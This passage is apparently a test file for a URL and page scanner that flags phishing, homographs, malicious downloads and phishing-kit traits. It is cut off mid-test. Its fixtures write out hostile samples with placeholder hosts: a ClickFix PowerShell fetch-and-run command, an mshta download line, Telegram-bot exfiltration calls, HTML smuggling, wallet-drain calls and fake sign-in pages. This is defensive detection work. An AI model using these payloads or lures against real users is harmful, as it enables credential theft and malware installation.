import assert from 'node:assert/strict';
import type { FetchResponse } from '@lookout/egress';
import { analyze, analyzeFetch, analyzeUrlOnly } from '../../src/analysis/analyze.js';
import { brandsNamedIn } from '../../src/analysis/brand-names.js';
import { inputFromFetch, type AnalysisInput } from '../../src/analysis/input.js';
import type { Rules } from '../../src/analysis/rules.js';
import type { ScanResult, Signal } from '../../src/analysis/result.js';
import { ThreatIntelIndex } from '../../src/threat-intel/threat-index.js';
import { defaultRules, fetchResponse, indexOf, validCertificate } from './fixtures.js';

describe('analysis: signal rules', () => {
  let rules: Rules;
  const produced = new Set<string>();

  before(async () => {
    rules = await defaultRules();
  });

  const scan = (response: FetchResponse, threatIntel = ThreatIntelIndex.empty()): Signal[] => {
    const result = analyzeFetch(response, { threatIntel, rules });
    for (const s of result.signals) produced.add(s.id);
    return result.signals;
  };
  const scanUrl = (url: string, threatIntel = ThreatIntelIndex.empty()): Signal[] => {
    const result = analyzeUrlOnly(url, { threatIntel, rules });
    for (const s of result.signals) produced.add(s.id);
    return result.signals;
  };
  const find = (signals: Signal[], id: string): Signal | undefined => signals.find((s) => s.id === id);
  const has = (signals: Signal[], id: string): boolean => find(signals, id) !== undefined;
  const html = (finalUrl: string, body: string, extra: Partial<FetchResponse> = {}): FetchResponse => fetchResponse({ finalUrl, html: body, ...extra });

  describe('threat intel', () => {
    it('threat-intel-match: high, with the list, entry and category', () => {
      const index = indexOf([{ name: 'urlhaus', format: 'csv', text: '"1","2025-01-01","http://dl.example/x.exe","online","","malware_download","exe","",""' }]);
      const s = find(scanUrl('http://dl.example/x.exe', index), 'threat-intel-match');
      assert.equal(s?.severity, 'high');
      assert.equal(s?.evidence, 'urlhaus: http://dl.example/x.exe (matched on url)');
    });

    it('threat-intel-resource: the page loads from a listed host', () => {
      const index = indexOf([{ name: 'malware-hosts', format: 'hosts', text: '0.0.0.0 cdn.evil.example' }]);
      const signals = scan(html('https://www.example.com/', '<script src="https://cdn.evil.example/loader.js"></script>'), index);
      assert.equal(find(signals, 'threat-intel-resource')?.severity, 'medium');
      assert.match(find(signals, 'threat-intel-resource')?.evidence ?? '', /cdn\.evil\.example/);
      assert.ok(!has(signals, 'threat-intel-match'));
    });
  });

  describe('hosts', () => {
    it('ip-literal-host: IPv4 and IPv6 literals', () => {
      assert.equal(find(scanUrl('http://203.0.113.5/login'), 'ip-literal-host')?.evidence, '203.0.113.5');
      assert.equal(find(scanUrl('http://[2001:db8::1]/'), 'ip-literal-host')?.evidence, '2001:db8::1');
      // WHATWG parsing turns the decimal form into dotted quad, so it is caught too.
      assert.equal(find(scanUrl('http://3405803781/'), 'ip-literal-host')?.evidence, '203.0.113.5');
      assert.ok(!has(scanUrl('https://www.example.com/'), 'ip-literal-host'));
    });

    it('punycode-host: an IDN host, shown decoded', () => {
      const s = find(scanUrl('https://xn--bcher-kva.example/'), 'punycode-host');
      assert.equal(s?.evidence, 'xn--bcher-kva.example → bücher.example');
      // Latin with diacritics is one script: no homograph finding.
      assert.ok(!has(scanUrl('https://xn--bcher-kva.example/'), 'mixed-script-host'));
    });

    it('mixed-script-host: Latin mixed with Cyrillic in one label', () => {
      // "exаmple" with a Cyrillic а (U+0430).
      const signals = scanUrl('https://ex\u0430mple.test/');
      assert.equal(find(signals, 'mixed-script-host')?.severity, 'high');
      assert.match(find(signals, 'mixed-script-host')?.evidence ?? '', /Cyrillic and Latin/);
      // A wholly Cyrillic name is a normal Russian domain, not a mix.
      assert.ok(!has(scanUrl('https://\u043f\u0440\u0438\u043c\u0435\u0440.test/'), 'mixed-script-host'));
    });

    it('homograph-brand-host: look-alike characters spelling a brand', () => {
      // "аррӏе" is all Cyrillic: no mixing, but it reads as "apple".
      const signals = scanUrl('https://\u0430\u0440\u0440\u04cf\u0435.example/');
      assert.ok(!has(signals, 'mixed-script-host'));
      assert.match(find(signals, 'homograph-brand-host')?.evidence ?? '', /reads as "apple\.example"/);
      // On shared hosting only the tenant's part is read: the platform's own name (GitHub in github.io) is not a look-alike.
      const tenant = scanUrl('https://\u0430\u0440\u0440\u04cf\u0435-support.github.io/').filter((s) => s.id === 'homograph-brand-host');
      assert.deepEqual(tenant.map((s) => s.message), ['The hostname uses look-alike characters to read as Apple.']);
    });

    it('suspicious-tld: from rules/suspicious-tlds.json', () => {
      assert.equal(find(scanUrl('https://free-prizes.xyz/'), 'suspicious-tld')?.severity, 'low');
      assert.ok(!has(scanUrl('https://www.example.com/'), 'suspicious-tld'));
    });

    it('deep-subdomain: many labels in front of the registrable domain', () => {
      assert.match(find(scanUrl('https://secure.account.login.verify.update.example.com/'), 'deep-subdomain')?.evidence ?? '', /^5 labels before example\.com/);
      assert.ok(!has(scanUrl('https://a.b.example.com/'), 'deep-subdomain'));
    });
  });

  describe('brands', () => {
    it('brand-in-hostname: a brand outside its own domains, look-alike spellings included', () => {
      assert.equal(find(scanUrl('https://paypal-resolution-center.example/'), 'brand-in-hostname')?.severity, 'medium');
      assert.match(find(scanUrl('https://secure-paypa1.example/'), 'brand-in-hostname')?.evidence ?? '', /look-alike/);
      assert.match(find(scanUrl('https://rnicrosoft-support.example/'), 'brand-in-hostname')?.evidence ?? '', /Microsoft|look-alike/);
    });

    it('brand-in-hostname: not on the brand itself, nor inside unrelated words for token brands', () => {
      assert.ok(!has(scanUrl('https://www.paypal.com/signin'), 'brand-in-hostname'));
      assert.ok(!has(scanUrl('https://login.microsoftonline.com/'), 'brand-in-hostname'));
      assert.ok(!has(scanUrl('https://pineapple.example/'), 'brand-in-hostname'));
      assert.ok(has(scanUrl('https://apple-id-locked.example/'), 'brand-in-hostname'));
    });

    it("brand-in-hostname: not on a host under a suffix only governments register (another country's tax office)", () => {
      assert.ok(!has(scanUrl('https://e-impots.gouv.ci/connexion'), 'brand-in-hostname'), "Côte d'Ivoire's tax office is not impots.gouv.fr");
      assert.ok(has(scanUrl('https://e-impots.gouv-ci.com/connexion'), 'brand-in-hostname'), 'a suffix only written into a name is no government');
    });

    it('brand-in-hostname: a keyword of hyphen-joined words counts only as whole words of the host', () => {
      assert.ok(has(scanUrl('https://cash-app-refund.example/'), 'brand-in-hostname'));
      assert.ok(!has(scanUrl('https://fast-cash-approval.example/'), 'brand-in-hostname'), '"cash-app" inside "cash-approval"');
      assert.ok(!has(scanUrl('https://compost-at-home.example/'), 'brand-in-hostname'), '"post-at" inside "compost-at"');
      assert.ok(has(scanUrl('https://paypalsecure.example/'), 'brand-in-hostname'), 'a one-word keyword still counts inside a host word');
    });

    it("brand-in-hostname: on a platform anyone publishes to, the platform's own name is no dress; the tenant's part is read", () => {
      assert.ok(!has(scanUrl('https://octo-tools.github.io/docs/'), 'brand-in-hostname'), 'a GitHub Pages site is not dressed as GitHub');
      assert.ok(has(scanUrl('https://paypal-verify.github.io/'), 'brand-in-hostname'), 'a tenant named after PayPal is');
    });

    it('brand-in-path: a brand as a path word on another site; the query is ignored', () => {
      assert.equal(find(scanUrl('https://files.example.net/netflix/billing/update'), 'brand-in-path')?.severity, 'low');
      assert.ok(!has(scanUrl('https://files.example.net/x?return=https://www.netflix.com/'), 'brand-in-path'));
      assert.ok(!has(scanUrl('https://www.netflix.com/netflix/browse'), 'brand-in-path'));
    });

    it('brand-title-credential-form: a password prompt titled with a brand on a foreign site', () => {
      const page = '<title>Microsoft account | Sign in</title><form method=post><input type=password></form>';
      assert.equal(find(scan(html('https://docs-share.example/', page)), 'brand-title-credential-form')?.severity, 'high');
      assert.ok(!has(scan(html('https://login.live.com/', page)), 'brand-title-credential-form'));
      assert.ok(!has(scan(html('https://docs-share.example/', '<title>Microsoft news</title><p>no form</p>')), 'brand-title-credential-form'));
      // A registry brand's own sign-in naming itself beside a brand it resells; the same title on another host is a kit's.
      const resold = '<title>Sign In | Microsoft 365 Email from GoDaddy</title><form method=post><input type=password></form>';
      assert.ok(!has(scan(html('https://sso.godaddy.com/?app=o365', resold)), 'brand-title-credential-form'));
      assert.ok(has(scan(html('https://godaddy-mail-login.example/', resold)), 'brand-title-credential-form'));
      // A brand's own top-level domain is the brand's (chromeenterprise.google).
      assert.ok(!has(scan(html('https://chromeenterprise.google/signin', '<title>Google Admin | Sign in</title><form method=post><input type=password></form>')), 'brand-title-credential-form'));
    });
  });

  describe('forms', () => {
    it('credential-form-cross-origin: a password form posting to another registrable domain', () => {
      const signals = scan(html('https://shop.example.com/login', '<form action="https://api.other.example/auth" method="POST"><input type="password"></form>'));
      assert.equal(find(signals, 'credential-form-cross-origin')?.evidence, 'POST https://api.other.example/auth from shop.example.com');
    });

    it('credential-form-cross-origin: a subdomain of the same site is not cross-origin, nor is a form without a password', () => {
      assert.ok(!has(scan(html('https://shop.example.com/login', '<form action="https://auth.example.com/"><input type="password"></form>')), 'credential-form-cross-origin'));
      assert.ok(!has(scan(html('https://shop.example.com/', '<form action="https://search.other.example/"><input name=q></form>')), 'credential-form-cross-origin'));
    });

    it('password-form-insecure: a password form on an http page or posting to http', () => {
      assert.match(find(scan(html('http://www.example.com/login', '<form><input type=password></form>')), 'password-form-insecure')?.evidence ?? '', /^page http:/);
      assert.match(find(scan(html('https://www.example.com/login', '<form action="http://www.example.com/post"><input type=password></form>')), 'password-form-insecure')?.evidence ?? '', /^action http:/);
      assert.ok(!has(scan(html('https://www.example.com/login', '<form><input type=password></form>')), 'password-form-insecure'));
    });
  });

  describe('downloads', () => {
    const binary = (headers: Record<string, string>, body: Buffer, finalUrl = 'https://dl.example.com/file'): FetchResponse => fetchResponse({ finalUrl, headers, body });

    it('executable-download: Content-Disposition filename, Content-Type, or magic bytes', () => {
      const byName = scan(binary({ 'content-type': 'application/octet-stream', 'content-disposition': 'attachment; filename="invoice.pdf.exe"' }, Buffer.from('x')));
      assert.match(find(byName, 'executable-download')?.evidence ?? '', /invoice\.pdf\.exe/);
      const byStarName = scan(binary({ 'content-disposition': "attachment; filename*=UTF-8''Rechnung%20M%C3%A4rz.scr" }, Buffer.from('x')));
      assert.match(find(byStarName, 'executable-download')?.evidence ?? '', /Rechnung März\.scr/);
      const byType = scan(binary({ 'content-type': 'application/vnd.android.package-archive' }, Buffer.from('PK')));
      assert.match(find(byType, 'executable-download')?.evidence ?? '', /Content-Type application\/vnd\.android\.package-archive/);
      const byMagic = scan(binary({ 'content-type': 'image/jpeg' }, Buffer.concat([Buffer.from('MZ'), Buffer.alloc(64)])));
      assert.match(find(byMagic, 'executable-download')?.evidence ?? '', /Windows PE/);
      assert.equal(find(byMagic, 'executable-download')?.severity, 'high');
    });

    it('executable-url: the URL path has an executable extension and the body is not HTML', () => {
      assert.equal(find(scanUrl('https://cdn.example.net/setup.msi'), 'executable-url')?.severity, 'medium');
      assert.ok(!has(scanUrl('https://cdn.example.net/app.js'), 'executable-url'));
      // A 404 page at an .exe URL is a page, not a download.
      assert.ok(!has(scan(html('https://cdn.example.net/setup.exe', '<title>Not found</title>', { status: 404 })), 'executable-url'));
    });

    it('attachment-download: info only, for a non-executable attachment', () => {
      const signals = scan(binary({ 'content-type': 'application/pdf', 'content-disposition': 'attachment; filename="report.pdf"' }, Buffer.from('%PDF-1.7')));
      assert.equal(find(signals, 'attachment-download')?.severity, 'info');
      assert.ok(!has(signals, 'executable-download'));
    });
  });

  describe('redirects', () => {
    it('meta-refresh-cross-domain: a meta refresh to another site, not to the same one', () => {
      const s = find(scan(html('https://www.example.com/', '<meta http-equiv="Refresh" content="0; URL=\'https://landing.example.net/go\'">')), 'meta-refresh-cross-domain');
      assert.equal(s?.evidence, 'after 0s to https://landing.example.net/go');
      assert.ok(!has(scan(html('https://www.example.com/', '<meta http-equiv="refresh" content="5;url=/next">')), 'meta-refresh-cross-domain'));
    });

    it('refresh-header-cross-domain: the Refresh response header', () => {
      const signals = scan(fetchResponse({ finalUrl: 'https://www.example.com/', headers: { 'content-type': 'text/html', refresh: '3; url=https://elsewhere.example.org/' } }));
      assert.equal(find(signals, 'refresh-header-cross-domain')?.evidence, 'after 3s to https://elsewhere.example.org/');
    });

    it('script-redirect-cross-domain: location assignment or replace() to another site', () => {
      const signals = scan(html('https://www.example.com/', '<script>setTimeout(function(){ window.location.replace("https://target.example.net/land") }, 10)</script>'));
      assert.match(find(signals, 'script-redirect-cross-domain')?.evidence ?? '', /→ https:\/\/target\.example\.net\/land$/);
      assert.ok(!has(scan(html('https://www.example.com/', '<script>location.href = "/account"</script>')), 'script-redirect-cross-domain'));
    });

    const hop = (url: string, location: string) => ({ url, status: 302, location });

    it('redirect-chain-long: at least redirectChainMinHops hops', () => {
      const redirects = [hop('https://a.example.com/1', '/2'), hop('https://a.example.com/2', '/3'), hop('https://a.example.com/3', '/4'), hop('https://a.example.com/4', '/5')];
      const signals = scan(fetchResponse({ requestedUrl: 'https://a.example.com/1', redirects, finalUrl: 'https://a.example.com/5' }));
      assert.equal(find(signals, 'redirect-chain-long')?.severity, 'low');
      assert.ok(!has(signals, 'redirect-cross-domain'));
      assert.ok(!has(scan(fetchResponse({ redirects: redirects.slice(0, 3), finalUrl: 'https://a.example.com/4' })), 'redirect-chain-long'));
    });

    it('redirect-cross-domain (info) for one crossing, redirect-cross-domain-hops (low) for several', () => {
      const one = scan(fetchResponse({ requestedUrl: 'https://short.example/x', redirects: [hop('https://short.example/x', 'https://www.example.com/')], finalUrl: 'https://www.example.com/' }));
      assert.equal(find(one, 'redirect-cross-domain')?.evidence, 'short.example → example.com');
      assert.equal(find(one, 'redirect-cross-domain')?.severity, 'info');
      const many = scan(
        fetchResponse({
          requestedUrl: 'https://short.example/x',
          redirects: [hop('https://short.example/x', 'https://track.example.net/'), hop('https://track.example.net/', 'https://www.example.org/')],
          finalUrl: 'https://www.example.org/',
        }),
      );
      assert.equal(find(many, 'redirect-cross-domain-hops')?.evidence, 'short.example → example.net, example.net → example.org');
    });

    it('redirect-https-downgrade: a hop from https to http', () => {
      const signals = scan(fetchResponse({ requestedUrl: 'https://www.example.com/', redirects: [hop('https://www.example.com/', 'http://www.example.com/plain')], finalUrl: 'http://www.example.com/plain', tls: null }));
      assert.equal(find(signals, 'redirect-https-downgrade')?.severity, 'low');
    });
  });

  describe('transport', () => {
    it('tls-self-signed and tls-untrusted from the certificate facts', () => {
      const selfSigned = scan(fetchResponse({ tls: validCertificate({ selfSigned: true, authorized: false, authorizationError: 'DEPTH_ZERO_SELF_SIGNED_CERT' }) }));
      assert.match(find(selfSigned, 'tls-self-signed')?.evidence ?? '', /DEPTH_ZERO_SELF_SIGNED_CERT/);
      assert.ok(!has(selfSigned, 'tls-untrusted'));
      const expired = scan(fetchResponse({ tls: validCertificate({ authorized: false, authorizationError: 'CERT_HAS_EXPIRED' }) }));
      assert.match(find(expired, 'tls-untrusted')?.evidence ?? '', /^CERT_HAS_EXPIRED/);
      assert.ok(!has(scan(fetchResponse()), 'tls-untrusted'));
    });

    it('the tls section is present for https only', () => {
      assert.ok(analyzeFetch(fetchResponse({ finalUrl: 'https://www.example.com/' }), { threatIntel: ThreatIntelIndex.empty(), rules }).tls);
      const plain = analyzeFetch(fetchResponse({ finalUrl: 'http://www.example.com/', tls: validCertificate() }), { threatIntel: ThreatIntelIndex.empty(), rules });
      assert.equal('tls' in plain, false);
    });

    it('insecure-transport (info) for a final http page', () => {
      assert.equal(find(scan(fetchResponse({ finalUrl: 'http://www.example.com/' })), 'insecure-transport')?.severity, 'info');
    });

    it('missing-security-headers is info only, and frame-ancestors stands in for X-Frame-Options', () => {
      const bare = find(scan(fetchResponse()), 'missing-security-headers');
      assert.equal(bare?.severity, 'info');
      assert.equal(bare?.evidence, 'content-security-policy, x-content-type-options, x-frame-options, referrer-policy, strict-transport-security');
      const partial = find(scan(fetchResponse({ headers: { 'content-type': 'text/html', 'content-security-policy': "frame-ancestors 'none'" } })), 'missing-security-headers');
      assert.equal(partial?.evidence, 'x-content-type-options, referrer-policy, strict-transport-security');
    });
  });

  describe('page content', () => {
    const scriptPage = (code: string) => html('https://www.example.com/', `<script>${code}</script>`);
    const findings = (signals: Signal[]) => find(signals, 'obfuscated-script')?.evidence ?? '';

    it('obfuscated-script: eval(atob(...)) and document.write(unescape(...))', () => {
      const signals = scan(scriptPage('eval(atob("YWxlcnQoMSk="))'));
      assert.equal(find(signals, 'obfuscated-script')?.severity, 'medium');
      assert.match(findings(signals), /eval-decode/);
      assert.match(findings(scan(scriptPage('document.write(unescape("%3Cscript%3E"))'))), /document-write-unescape/);
    });

    it('obfuscated-script: String.fromCharCode chains, hex-escape density, long base64 blobs', () => {
      const hidden = 'window.location="https://x.example/"';
      const codes = [...hidden].map((c) => c.charCodeAt(0)).join(', ');
      assert.match(findings(scan(scriptPage(`var s=String.fromCharCode(${codes});`))), new RegExp(`fromcharcode-chain: String\\.fromCharCode with ${hidden.length} numeric arguments`));
      assert.match(findings(scan(scriptPage(`var s=String.fromCharCode.apply(null, [${codes}]);`))), /fromcharcode-chain/);
      const hex = [...'document.cookie+location.href'.repeat(4)].map((c) => `\\x${c.charCodeAt(0).toString(16).padStart(2, '0')}`).join('');
      assert.match(findings(scan(scriptPage(`var _0x1="${hex}";`))), /hex-escapes/);
      const blob = Buffer.from(Array.from({ length: 1200 }, (_, i) => (i * 7919) % 256)).toString('base64');
      const signals = scan(scriptPage(`var payload="${blob}";`));
      assert.match(findings(signals), /base64-blob/);
      assert.equal(find(signals, 'obfuscated-script')?.severity, 'low');
    });

    it('obfuscated-script: inline event handlers are looked at too; data: URIs and plain code are not flagged', () => {
      assert.match(findings(scan(html('https://www.example.com/', '<body onload="eval(unescape(\'%61%6c%65%72%74\'))">'))), /eval-decode: .* in event-handler/);
      const image = Buffer.alloc(2000, 7).toString('base64');
      assert.ok(!has(scan(scriptPage(`img.src="data:image/png;base64,${image}"; function add(a, b) { return a + b }`)), 'obfuscated-script'));
    });

    it('hidden-iframe: an invisible frame to another site, not a same-site or <noscript> one', () => {
      const s = find(scan(html('https://www.example.com/', '<iframe src="https://inject.example.net/x" width="0" height="0" frameborder="0"></iframe>')), 'hidden-iframe');
      assert.equal(s?.evidence, 'https://inject.example.net/x (size 0x0)');
      assert.ok(!has(scan(html('https://www.example.com/', '<noscript><iframe src="https://tags.example.net/ns" style="display:none"></iframe></noscript>')), 'hidden-iframe'));
      assert.ok(!has(scan(html('https://www.example.com/', '<iframe src="/keepalive" style="display: none"></iframe>')), 'hidden-iframe'));
    });
  });

  describe('kits (content, scripts and what they decode)', () => {
    const kit = (url: string, body: string, input: Partial<AnalysisInput> = {}): { signals: Signal[]; result: ReturnType<typeof analyze> } => {
      const result = analyze({ ...inputFromFetch(html(url, body)), ...input }, { threatIntel: ThreatIntelIndex.empty(), rules });
      for (const s of result.signals) produced.add(s.id);
      return { signals: result.signals, result };
    };

    it('credentials beyond passwords: one-time codes, cards, identity data, seed phrases (12 numbered inputs)', () => {
      const { signals } = kit('https://x.example/', `<form><input type="password" name="p"><input name="otp" autocomplete="one-time-code"><label for="c">Card number</label><input id="c" name="c"><input name="cvv"><input name="ssn" placeholder="XXX-XX-XXXX"></form>`);
      for (const id of ['credential-password', 'credential-otp', 'credential-card', 'credential-identity']) assert.ok(has(signals, id), id);
      const seed = kit('https://x.example/', `<form>${Array.from({ length: 12 }, (_, i) => `<input name="w${i}" placeholder="${i + 1}.">`).join('')}</form>`);
      assert.match(find(seed.signals, 'credential-seed-phrase')?.evidence ?? '', /12 numbered word inputs/);
      assert.equal(seed.result.verdict, 'malicious');
      // A code typed one character per box is a one-time code, whatever the boxes are called.
      const boxes = kit('https://x.example/', `<h1>Enter code</h1>${Array.from({ length: 6 }, () => '<input type="tel" maxlength="1">').join('')}<button>Verify</button>`);
      assert.match(find(boxes.signals, 'credential-otp')?.evidence ?? '', /6 one-character code boxes/);
      assert.ok(!has(kit('https://x.example/', '<input type="tel" maxlength="1"><input type="tel" maxlength="1">').signals, 'credential-otp'));
    });

    it('brand impersonation needs a host the brand does not own; with a password it is phishing, decided by the combination', () => {
      const body = '<title>Sign in to your Microsoft account</title><img alt="Microsoft" src="l.svg"><form method="post" action="p.php"><input name="u"><input type="password" name="p"></form>';
      const foreign = kit('https://login-verify.example/', body);
      assert.ok(has(foreign.signals, 'brand-impersonation'));
      assert.equal(foreign.result.verdict, 'malicious');
      assert.deepEqual(foreign.result.categories, ['phishing']);
      assert.ok(foreign.result.decidedBy?.includes('combo:brand-credentials'));
      const own = kit('https://login.microsoftonline.com/', body);
      assert.ok(!has(own.signals, 'brand-impersonation'));
      assert.equal(own.result.verdict, 'clean');
    });

    it('a kit shipped as base64 or percent-escapes is judged on the page it decodes to', () => {
      const page = '<html><title>PayPal</title><body><h1>PayPal</h1><form action="x.php"><input type="password" name="pw"></form></body></html>';
      const encoded = kit('https://a.example/', `<script>document.write(atob("${Buffer.from(page).toString('base64')}"))</script>`);
      assert.ok(has(encoded.signals, 'brand-impersonation') && has(encoded.signals, 'credential-password'));
      assert.match(find(encoded.signals, 'credential-password')?.evidence ?? '', /script-decoded/);
      assert.equal(encoded.result.verdict, 'malicious');
    });

    it('credential fields written from an encoded literal, on a page that names nobody, are a kit trait; a named site\'s own sign-in built the same way is not judged by it', () => {
      const form = (name: string): string => `<title>${name}</title><h1>${name}</h1><form method="post" action="claim.php"><input name="phone" placeholder="Nomor HP"><input type="password" name="pin" placeholder="PIN (6 digit)"><button>Klaim</button></form><footer>© 2026 ${name}</footer>`;
      const hidden = (name: string): string => `<script>document.write(atob("${Buffer.from(form(name)).toString('base64')}"))</script>`;
      const kitPage = kit('https://promo-77.example/klaim/', hidden('Saldo Kaget'));
      assert.ok(has(kitPage.signals, 'encoded-credential-form') && has(kitPage.signals, 'obfuscated-script'), JSON.stringify(kitPage.signals.map((x) => x.id)));
      assert.ok(kitPage.result.decidedBy?.includes('combo:kit-traits-credentials'), JSON.stringify(kitPage.result.decidedBy));
      assert.equal(kit('https://app.orbitnotes.example/login', hidden('Orbitnotes')).result.verdict, 'clean');
    });

    it('lures and exfiltration endpoints', () => {
      const { signals, result } = kit('https://m.example/', `<p>Your mailbox has exceeded its storage limit.</p><form id="f"><input name="e"><input type="password" name="p"></form><script>fetch("https://api.telegram.org/bot123:AAx/sendMessage",{method:"POST"})</script>`);
      assert.ok(has(signals, 'lure-text') && has(signals, 'exfil-endpoint'));
      assert.ok(result.decidedBy?.includes('combo:lure-credentials') && result.decidedBy.includes('combo:exfiltrated-credentials'));
    });

    it('a page calling itself by the name of another site it links to, asking for credentials under a lure, is a kit without any registry entry; the organisation\'s status page on a second domain is not', () => {
      const page = kit('https://pkgindex-mirror.example/account/login/', '<title>Log in · Pkgindex</title><h1>Pkgindex</h1><p>Mandatory account validation. Accounts that are not validated within 72 hours will be suspended.</p><form method="post"><input name="username"><input type="password" name="password"><button>Log in</button></form><a href="https://pkgindex.example/help/">Help</a>');
      assert.ok(has(page.signals, 'name-owned-elsewhere'), JSON.stringify(page.signals.map((x) => x.id)));
      assert.ok(page.result.decidedBy?.includes('combo:name-elsewhere-credentials'), JSON.stringify(page.result.decidedBy));
      // An organisation's tenant of a sign-in platform names it by its label: acme.onelogin.com is Acme's own.
      const tenant = kit('https://pkgindex.onelogin.com/login', '<title>Pkgindex</title><h1>Sign in to Pkgindex</h1><p>Your session has expired. Sign in again within 24 hours to keep access.</p><form method="post"><input name="username"><input type="password" name="password"><button>Sign in</button></form><a href="https://pkgindex.example/help/">Help</a>');
      assert.ok(!has(tenant.signals, 'name-owned-elsewhere'), JSON.stringify(tenant.signals.map((x) => x.id)));
      const status = kit('https://pkgindex-status.example/', '<title>Pkgindex</title><h1>Pkgindex status</h1><p>All systems operational. Incidents are also posted on our blog.</p><a href="https://pkgindex.example/">Back to Pkgindex</a>');
      assert.equal(status.result.verdict, 'clean');
    });

    it('a page calling itself by another site\'s name counts as not its host\'s own for the kit combinations: a bank\'s name asking card and password, a webmail spelled as the domain it returns to', () => {
      const card = '<form method="post"><label>Identifiant <input name="user"></label><label>Mot de passe <input type="password" name="password"></label><label>Numéro de carte <input name="cardnumber" autocomplete="cc-number"></label><label>Date d\'expiration <input autocomplete="cc-exp"></label><label>Cryptogramme <input name="cvv"></label><button>Valider</button></form>';
      const bank = kit('https://orbibank-particuliers.example/fr/connexion/', `<title>Orbibank - Espace Particuliers</title><h1>Orbibank</h1>${card}<a href="https://www.orbibank.example/aide">Aide</a>`);
      assert.ok(bank.result.decidedBy?.includes('combo:card-with-password'), JSON.stringify(bank.signals.map((x) => x.id)));
      // The host spells the domain the page names and returns to: "Mail @ post.example" on mail.post-example.online.
      const webmail = kit('https://mail.post-example.online/login?email=a%40post.example', '<title>Mail @ post.example</title><h1>post.example</h1><form method="post"><input name="email"><input type="password" name="pass"><button>Sign in</button></form><script>var q=new URLSearchParams(location.search).get("email");fetch("/gate.php",{method:"POST",body:q});setTimeout(function(){location.href="https://mail.post.example/"},9000)</script>');
      assert.ok(has(webmail.signals, 'name-owned-elsewhere'), JSON.stringify(webmail.signals.map((x) => x.id)));
      // A sign-in method named after another service on a host that does not spell it is no look-alike.
      const method = kit('https://www.tax-office.example/login', '<title>e-Office | Login.sso.example</title><h1>e-Office</h1><p>Sign in with Login.sso.example</p><a href="https://login.sso.example/">Login.sso.example</a>');
      assert.ok(!has(method.signals, 'name-owned-elsewhere'), JSON.stringify(method.signals.map((x) => x.id)));
    });

    it('credential fields posted to a chat bot are a kit even on a page that names its host; a contact form sent to the same bot is not', () => {
      const bot = '<script>document.forms[0].onsubmit=function(){fetch("https://api.telegram.org/bot123:AAx/sendMessage",{method:"POST",body:JSON.stringify({chat_id:1,text:"x"})});return false}</script>';
      const named = kit('https://pesopay-upgrade.example/upgrade/', `<title>PesoPay</title><h1>PesoPay</h1><form><input name="mobile" placeholder="Mobile number"><input type="password" name="mpin" placeholder="MPIN"><input name="otp" autocomplete="one-time-code"><button>Upgrade</button></form>${bot}<footer>© 2026 PesoPay</footer>`);
      assert.ok(!has(named.signals, 'identity-not-own') && has(named.signals, 'chat-bot-relay'), JSON.stringify(named.signals.map((x) => x.id)));
      assert.ok(named.result.decidedBy?.includes('combo:chat-bot-credentials'), JSON.stringify(named.result.decidedBy));
      const contact = kit('https://www.kedai-bunga-mawar.example/hubungi', `<title>Hubungi kami | Kedai Bunga Mawar</title><h1>Kedai Bunga Mawar</h1><form><input name="nama" placeholder="Nama"><input name="telefon" placeholder="Telefon"><textarea name="mesej"></textarea><button>Hantar</button></form>${bot}<footer>© 2026 Kedai Bunga Mawar</footer>`);
      assert.equal(contact.result.verdict, 'clean', JSON.stringify(contact.result.decidedBy));
    });

    it('lures said to all staff: mailboxes to validate, accounts (plural) to be deactivated', () => {
      const staff = kit('https://forms.quick-survey-maker.example/it-desk/validate', '<h1>IT Helpdesk – Mailbox Validation</h1><p>All staff must validate their mailbox before Friday. Unvalidated accounts will be deactivated.</p><form><input name="email"><input type="password" name="pw"></form>');
      assert.ok(has(staff.signals, 'lure-text'), JSON.stringify(staff.signals.map((x) => x.id)));
      assert.equal(staff.result.verdict, 'malicious');
    });

    it('ClickFix: a shell command written to the clipboard beside Run-dialog steps; a copy button alone is clean', () => {
      const { signals, result } = kit('https://c.example/', `<p>I'm not a robot</p><ol><li>Press Windows Button + R</li><li>Press CTRL + V</li></ol><script>b.onclick=()=>navigator.clipboard.writeText("powershell -w hidden -c iwr https://x/a.ps1 | iex")</script>`);
      for (const id of ['clipboard-shell-command', 'run-dialog-instructions', 'fake-captcha']) assert.ok(has(signals, id), id);
      assert.equal(result.verdict, 'malicious');
      assert.deepEqual(result.categories, ['clickfix']);
      const copyButton = kit('https://docs.example/', `<pre>powershell -c Get-Process</pre><script>b.onclick=()=>navigator.clipboard.writeText(p.innerText)</script>`);
      assert.equal(copyButton.result.verdict, 'clean');
      const captured = kit('https://c2.example/', '<p>Press Win+R</p>', { clipboardWrites: ['mshta https://x.example/a.hta'] });
      assert.match(find(captured.signals, 'clipboard-shell-copied')?.evidence ?? '', /^clipboard: mshta/);
      assert.ok(captured.result.decidedBy?.includes('combo:clickfix-copied'));
    });

    it('HTML smuggling, wallet drainers, tech-support scams, bot evasion', () => {
      const smuggle = kit('https://s.example/', `<script>var b=new Blob([u],{type:"application/octet-stream"});a.href=URL.createObjectURL(b);a.download="invoice.iso";a.click()</script>`);
      assert.ok(has(smuggle.signals, 'html-smuggling'));
      assert.equal(smuggle.result.verdict, 'malicious');
      const drain = kit('https://d.example/', `<script>ethereum.request({method:"eth_requestAccounts"});token.approve(spender, ethers.constants.MaxUint256)</script>`);
      assert.ok(has(drain.signals, 'wallet-connect-request') && has(drain.signals, 'wallet-drain-calls'));
      assert.deepEqual(drain.result.categories, ['cryptodrainer']);
      // Approval for all alone is what NFT marketplaces ask for: it decides only beside a lure or brand evidence.
      const market = kit('https://d.example/', `<script>ethereum.request({method:"eth_requestAccounts"});c.setApprovalForAll(op, true)</script>`);
      assert.ok(has(market.signals, 'wallet-approval-request') && !has(market.signals, 'wallet-drain-calls'));
      assert.equal(market.result.verdict, 'clean');
      const scam = kit('https://t.example/', `<h1>Windows Security Alert</h1><p>Your computer has been blocked. Call Microsoft Support: +1-888-555-0199</p><script>setInterval(function(){alert("Virus")},1000);document.documentElement.requestFullscreen()</script>`);
      for (const id of ['tech-support-text', 'support-phone-number', 'scareware-behaviour']) assert.ok(has(scam.signals, id), id);
      assert.deepEqual(scam.result.categories, ['scam']);
      const cloak = kit('https://k.example/', `<script>if(navigator.webdriver){}else{location.replace("https://kit.other.example/login")}</script>`);
      assert.ok(has(cloak.signals, 'bot-evasion'));
    });

    it('a brand favicon (operator hash) on a foreign host is brand evidence', () => {
      const withIcon: Rules = { ...rules, brands: [...rules.brands, { name: 'Contoso', keywords: ['contoso'], match: 'token', domains: ['contoso.com'], names: ['Contoso'], faviconMmh3: [-1234567], faviconSha256: [], faviconDhash: [] }] };
